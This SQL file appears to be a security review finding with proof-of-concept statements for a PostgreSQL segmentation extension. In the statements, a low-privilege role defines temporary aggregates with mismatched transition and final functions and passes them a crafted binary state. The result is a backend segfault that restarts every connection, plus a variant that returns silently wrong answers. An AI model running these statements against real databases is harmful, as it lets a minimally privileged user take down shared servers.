-- R19-1: a final function of one event-list aggregate on the state of another
-- kind: sequence_next_node_final reads s->nv (NULL unless the kind is
-- sequence_next_node) -> SIGSEGV, the postmaster restarts every backend.
-- Any role with USAGE on schema segmentation (segmentation_reader) and
-- CREATE on some schema (pg_temp is enough).  Before this branch PostgreSQL
-- refused the same aggregate: "aggregate transition data type cannot be internal".
-- as a login role granted only segmentation_reader (review: role r19_reader)
CREATE AGGREGATE pg_temp.evil_nn(timestamptz, boolean[], interval) (
	SFUNC = segmentation.window_funnel_trans, STYPE = segmentation.event_list,
	FINALFUNC = segmentation.sequence_next_node_final);
SELECT pg_temp.evil_nn(t, ARRAY[true], '1 day') FROM (VALUES ('2020-01-01'::timestamptz)) v(t);
-- server closed the connection unexpectedly; server.log: "terminated by signal 11"

-- the same through a crafted/foreign state and the combine function as SFUNC:
CREATE AGGREGATE pg_temp.evil_nn2(segmentation.event_list) (
	SFUNC = segmentation.event_list_combine, STYPE = segmentation.event_list,
	FINALFUNC = segmentation.sequence_next_node_final);
SELECT pg_temp.evil_nn2(x::segmentation.event_list)
FROM (VALUES ('\x01010000000200000000000000141dd7600000000000000000000000000200023e0786c260000000000100023e1ba499c00000000002')) v(x);
-- (a valid window_funnel state, kind 1, from window_funnel_trans): also crashes

-- the same mismatch on other finals gives silent wrong answers (no crash):
CREATE AGGREGATE pg_temp.evil_wf(timestamptz, text, boolean, boolean[], text, text) (
	SFUNC = segmentation.sequence_next_node_trans, STYPE = segmentation.event_list,
	FINALFUNC = segmentation.window_funnel_final);
SELECT pg_temp.evil_wf(t, 'x', true, ARRAY[true,false], 'forward', 'head') FROM (VALUES ('2020-01-01'::timestamptz)) v(t);  -- 1
